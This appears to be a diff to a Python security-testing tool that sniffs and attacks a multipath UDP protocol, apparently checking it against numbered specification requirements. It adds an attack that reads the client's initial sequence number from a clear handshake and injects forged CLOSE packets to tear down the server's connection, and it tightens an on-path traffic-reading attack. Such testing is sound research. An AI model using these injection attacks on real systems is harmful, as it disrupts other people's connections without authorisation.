@@ -197,7 +197,8 @@ class CmSniffer(threading.Thread):
                 k.update(conn=h["conn_id"], udp_port=h["udp_port"],
                          addr=socket.inet_ntoa(h["addrs"][0][:4]),
                          paths=h["n_paths"], cm=2, modes=h["modes"],
-                         psk=bool(h["features"] & mrcm.FEAT_PSK))
+                         psk=bool(h["features"] & mrcm.FEAT_PSK),
+                         init_dsn=h["init_dsn"])
             elif mtype == mrcm.HELLO:
                 conn, _r, _af, udp = struct.unpack(">IBBH", body[:8])
                 k.update(conn=conn, udp_port=udp,
@@ -535,13 +536,16 @@ def attack_onpath(k, snd, rng, args):
     srv, cli = k["server"], k["client"]
     sn = args.udp
     t0 = time.time()
-    while time.time() - t0 < 5 and sn.latest_dsn(srv["udp_port"]) is None:
+    while time.time() - t0 < 5 and (
+            sn.latest_dsn(srv["udp_port"]) is None or
+            min(len(sn.copies(srv["udp_port"])),
+                len(sn.copies(cli["udp_port"]))) < 16):
         time.sleep(0.01)
     d = sn.latest_dsn(srv["udp_port"])
     if d is None:
         log("onpath: read no data packet")
         return
-    sealed = bool(sn.copies(srv["udp_port"])[0][0] & SEAL)
+    sealed = bool(sn.last_data[srv["udp_port"]][0] & SEAL)
     log("onpath: read %d packets; data %s; latest DSN to the server 0x%08x"
         % (sn.n, "sealed" if sealed else "in clear", d))
     clear = readable(sn.copies(srv["udp_port"]), srv["mr"][0], sealed)
@@ -579,7 +583,19 @@ def attack_onpath(k, snd, rng, args):
         time.sleep(0.02)
 
 
-ATTACKS = {"close": attack_close, "probe": attack_probe,
+def attack_cmclose(k, snd, rng, args):
+    """What the CM's clear HELLO gives a reader (R-CM-14): the client's
+    first DSN, hence where the server's DSN window lies when the transfer
+    starts. A CLOSE naming a DSN just ahead of it passes R-VAL-5. Not a
+    blind attacker: this one is on-path for the CM (mode none)."""
+    srv, cli = k["server"], k["client"]
+    for j in range(8):
+        psn = (cli.get("init_dsn", 0) + 512 * (j + 1)) & 0xFFFFFFFF
+        snd.send("close_srv", close_pkt(srv["conn"], j % srv["paths"], psn),
+                 (srv["addr"], srv["udp_port"]))
+
+
+ATTACKS = {"close": attack_close, "cmclose": attack_cmclose, "probe": attack_probe,
            "nack": attack_nack, "ack": attack_ack, "read": attack_read,
            "onpath": attack_onpath}
 
